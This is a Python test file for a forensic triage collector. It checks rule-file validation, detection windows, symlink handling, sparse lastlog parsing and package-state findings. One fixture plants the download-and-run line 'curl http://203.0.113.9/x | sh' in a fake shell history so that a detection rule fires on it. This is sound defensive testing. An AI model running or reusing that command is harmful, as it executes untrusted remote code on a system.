"""Finding rules as data (collectors/ruleset.py): a mistake in a rule file is a usage
error naming the rule and key; an examiner's file replaces, disables and adds rules; the
conditions mean what docs/triage.md says. And the collectors driven directly on a tree:
the detection window, symlinked home directories, lastlog holes."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from conftest import journal_records

from collectors.accounts import AccountsCollector
from collectors.context import CollectContext, Options
from collectors.findings import DAY_NS, apply_rules
from collectors.lastlog import parse_lastlog
from collectors.persistence import PersistenceCollector
from collectors.ruleset import RulesError, load_rules


def _rules(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "mine.toml"
    path.write_text(text)
    return path


RULE = """
[[rule]]
id = "{id}"
fact = "account"
severity = "LOW"
why = "because"
message = "{{name}} is {{uid}}"
{extra}
"""


@pytest.mark.parametrize(
    ("extra", "error"),
    [
        ("equals = { nosuch = 1 }", "'equals' names 'nosuch', not a field"),
        ('equals = { uid = "0" }', "equals.uid must be a whole number"),
        ("equals = { login_shell = 1 }", "equals.login_shell must be true or false"),
        ('regex = { name = "(" }', "regex.name is not a valid pattern"),
        ('below = { uid = "x" }', "below.uid must be a whole number"),
        ("whenever = true", "unknown key 'whenever'"),
        ("any = [{ sometimes = 1 }]", "unknown condition 'sometimes'"),
        ('record = ["password"]', "'record' must list fields of a account fact"),
        ('severity_if = [{ severity = "URGENT" }]', "'severity' must be one of HIGH, MEDIUM, LOW"),
    ],
)
def test_mistakes_name_the_rule_and_key(tmp_path: Path, extra: str, error: str) -> None:
    path = _rules(tmp_path, RULE.format(id="mine", extra=extra))
    with pytest.raises(RulesError, match="rule 'mine'") as raised:
        load_rules((path,))
    assert error in str(raised.value)
    assert raised.value.exit_code == 2


def test_unknown_fact_and_unreadable_file(tmp_path: Path) -> None:
    with pytest.raises(RulesError, match="'fact' must be one of persistence, account"):
        load_rules((_rules(tmp_path, RULE.format(id="m", extra="").replace("account", "x")),))
    with pytest.raises(RulesError, match="cannot read the rule file"):
        load_rules((tmp_path / "absent.toml",))


def test_an_examiner_file_replaces_disables_and_adds(tmp_path: Path) -> None:
    text = RULE.format(id="uid0-account", extra="equals = { uid = 0 }")
    text += '\n[[rule]]\nid = "history-disabled"\nenabled = false\n'
    text += RULE.format(id="low-uid", extra="below = { uid = 100 }\nat_least = { uid = 1 }")
    rules = load_rules((_rules(tmp_path, text),))
    by_id = {r.id: r for r in rules.rules}
    assert by_id["uid0-account"].severity == "LOW"  # replaced
    assert "history-disabled" not in by_id
    low = by_id["low-uid"]
    assert low.when.holds({"uid": 5}) and not low.when.holds({"uid": 0})
    assert not low.when.holds({"uid": 100}) and not low.when.holds({"uid": True})


def test_conditions_and_severity_if() -> None:
    rules = {r.id: r for r in load_rules().rules}
    modified = rules["package-file-modified"]
    assert modified.severity_for({"executable": True}) == "HIGH"
    assert modified.severity_for({"executable": False}) == "MEDIUM"
    uid0 = rules["uid0-account"]
    assert uid0.when.holds({"uid": 0, "name": "toor"})
    assert not uid0.when.holds({"uid": 0, "name": "root"})
    assert not uid0.when.holds({"uid": False, "name": "toor"})  # a bool is not 0
    recent = rules["persistence-changed-in-window"]
    assert recent.when.holds({"in_window": True, "package_state": "unpackaged"})
    assert not recent.when.holds({"in_window": True, "package_state": "unchanged"})
    assert not recent.when.holds({"in_window": False, "package_state": "unpackaged"})


def test_the_window_decides_and_old_entries_are_quiet(ctx: CollectContext) -> None:
    window = 10**18
    old = {"path": "/etc/cron.d/old", "kind": "cron", "changed_ns": window - DAY_NS,
           "package_state": "unpackaged", "writable_target": False}  # fmt: skip
    new = {**old, "path": "/etc/cron.d/new", "changed_ns": window + 1}
    assert (
        apply_rules(ctx, "persistence", "persistence", old, b"/etc/cron.d/old", None, window) == 0
    )
    assert (
        apply_rules(ctx, "persistence", "persistence", new, b"/etc/cron.d/new", None, window) == 1
    )
    (finding,) = [r for r in journal_records(ctx.root) if r.get("event") == "finding"]
    assert finding["source"]["path"] == "/etc/cron.d/new"
    assert finding["changed_ns"] == str(window + 1)  # beyond 2**53: a string in the journal


def test_symlinked_home_directories_are_not_followed(ctx: CollectContext, tmp_path: Path) -> None:
    host = tmp_path / "host"
    home = host / "home/mallory"
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "systemd/user").mkdir(parents=True)
    (elsewhere / "systemd/user/big.service").write_text("[Service]\nExecStart=/bin/true\n")
    (elsewhere / "authorized_keys").write_text("ssh-ed25519 AAAA elsewhere\n")
    home.mkdir(parents=True)
    (home / ".bash_history").write_text("curl http://203.0.113.9/x | sh\n")
    (home / ".ssh").symlink_to(elsewhere)
    (home / ".config").symlink_to(elsewhere)
    (host / "etc").mkdir()
    (host / "etc/passwd").write_text("mallory:x:1001:1001::/home/mallory:/bin/bash\n")
    ctx.options = Options(only=("persistence", "accounts"))
    for collector in (PersistenceCollector(), AccountsCollector()):
        collector.root = os.fsencode(host)
        collector.collect(ctx)
    records = journal_records(ctx.root)
    sources = [r["source"]["path"] for r in records if r["type"] == "artifact" and "source" in r]
    assert str(home / ".bash_history") in sources
    assert not [s for s in sources if s.startswith(str(elsewhere))]
    steered = {
        r["source"]["path"] for r in records if "symlink: not followed" in r.get("reason", "")
    }
    assert str(home / ".ssh/authorized_keys") in steered
    assert str(home / ".config/systemd/user") in steered
    assert not list((ctx.root / "artifacts").rglob("big.service"))
    (finding,) = [r for r in records if r.get("rule") == "history-download-and-run"]
    assert finding["user"] == "mallory" and finding["line_no"] == 1


def test_lastlog_holes_are_not_read(tmp_path: Path) -> None:
    """A user ID near 2**31 makes a 600 GB sparse file: only its data is read."""
    path = tmp_path / "lastlog"
    uid = 2**31 - 2
    with open(path, "wb") as f:
        f.seek(uid * 292)
        f.write(b"\x10\x00\x00\x00" + b"tty1".ljust(32, b"\0") + b"host".ljust(256, b"\0"))
    rows = parse_lastlog(os.fsencode(path), {uid: "far"})
    assert rows == [{"uid": uid, "user": "far", "time": "1970-01-01T00:00:16.000000000Z",
                     "time_s": 16, "line": "tty1", "host": "host"}]  # fmt: skip


def test_profile_switches_and_caps(ctx: CollectContext, tmp_path: Path) -> None:
    """``persistence = false`` turns it off; a file past ``config_max_file_mib`` is
    recorded, not copied."""
    from collectors.logprofile import load_profile

    host = tmp_path / "host"
    (host / "etc").mkdir(parents=True)
    (host / "etc/big.conf").write_bytes(b"x" * (1024 * 1024 + 1))
    (host / "etc/small.conf").write_text("ok\n")
    profile = tmp_path / "p.toml"
    profile.write_text(
        'version = 1\n[[source]]\nroot = "/nonexistent"\ndescription = "none"\n'
        "[triage]\nconfig_max_file_mib = 1\naccounts = false\n"
    )
    ctx.options = Options(log_profile=load_profile(str(profile)))
    collector = PersistenceCollector()
    collector.root = os.fsencode(host)
    collector.collect(ctx)
    AccountsCollector().collect(ctx)
    records = journal_records(ctx.root)
    skipped = [r for r in records if r["type"] == "skipped"]
    assert [r["source"]["path"] for r in skipped] == [str(host / "etc/big.conf")]
    assert "cap per file" in skipped[0]["reason"]
    assert (ctx.root / "artifacts/persistence/etc/small.conf").read_text() == "ok\n"
    assert ("Accounts", f"not in profile {profile}") in list(ctx.summary)
    entries = (ctx.root / "artifacts/persistence/entries.jsonl").read_bytes()
    assert json.loads(b"[" + entries.replace(b"\n", b",").rstrip(b",") + b"]") == []


def test_package_state_quiets_shipped_files_and_the_whole_db_stays_whole(
    ctx: CollectContext, tmp_path: Path
) -> None:
    """A cron file exactly as its package shipped it is no finding, the same file
    changed is one; and the partial database persistence reads is not what packages
    (run after it) checks the host's programs against."""
    import hashlib

    from collectors.packages import PackagesCollector

    host = tmp_path / "host"
    info = host / "var/lib/dpkg/info"
    info.mkdir(parents=True)
    shipped, edited = b"0 4 * * * root /usr/sbin/logrotate\n", b"* * * * * root /opt/x\n"
    md5 = {n: hashlib.md5(shipped).hexdigest() for n in ("etc/cron.d/rotate", "etc/cron.d/edit")}
    md5["usr/bin/tool"] = hashlib.md5(b"original").hexdigest()
    (info / "cronpkg.md5sums").write_text("".join(f"{d}  {p}\n" for p, d in md5.items()))
    (info / "cronpkg.list").write_text("".join(f"/{p}\n" for p in md5))
    (host / "etc/cron.d").mkdir(parents=True)
    (host / "etc/cron.d/rotate").write_bytes(shipped)
    (host / "etc/cron.d/edit").write_bytes(edited)
    (host / "usr/bin").mkdir(parents=True)
    (host / "usr/bin/tool").write_bytes(b"trojaned")
    ctx.options = Options(only=("persistence", "packages"))
    for collector in (PersistenceCollector(), PackagesCollector()):
        collector.root = os.fsencode(host)
        collector.collect(ctx)
    found = {(r["rule"], r["source"]["path"]) for r in journal_records(ctx.root) if "rule" in r}
    assert ("persistence-changed-in-window", str(host / "etc/cron.d/edit")) in found
    assert not [f for f in found if f[1].endswith("rotate")]
    assert ("package-file-modified", str(host / "usr/bin/tool")) in found
    entries = (ctx.root / "artifacts/persistence/entries.jsonl").read_text().splitlines()
    states = {json.loads(e)["path"]: json.loads(e)["package_state"] for e in entries}
    assert states == {"/etc/cron.d/edit": "modified", "/etc/cron.d/rotate": "unchanged"}


def test_docs_name_every_fact_field_rule_and_triage_switch() -> None:
    """docs/triage.md is where an examiner writing a rule looks: every fact with each of
    its fields, every built-in rule, and every switch of the ``[triage]`` table."""
    from collectors.ruleset import _COMMON, FACTS
    from collectors.triageprofile import _SWITCHES

    doc = (Path(__file__).parent.parent / "docs/triage.md").read_text()
    rows = {line.split("|")[1].strip(" `"): line for line in doc.splitlines()
            if line.startswith("| `")}  # fmt: skip
    for fact, fields in FACTS.items():
        assert fact in rows, f"fact {fact} is not in docs/triage.md's table"
        missing = [f for f in fields if f not in rows[fact] and f not in _COMMON]
        assert not missing, f"fact {fact}: fields {missing} not in docs/triage.md"
    assert "Every fact also has `path`, `changed_ns` and `in_window`" in " ".join(doc.split())
    for rule in load_rules().rules:
        assert f"`{rule.id}`" in doc, f"rule {rule.id} is not in docs/triage.md"
    table = doc.split("## The `[triage]` profile table", 1)[1]
    for switch in _SWITCHES:
        assert f"\n{switch} = " in table, f"[triage] {switch} is not in docs/triage.md"
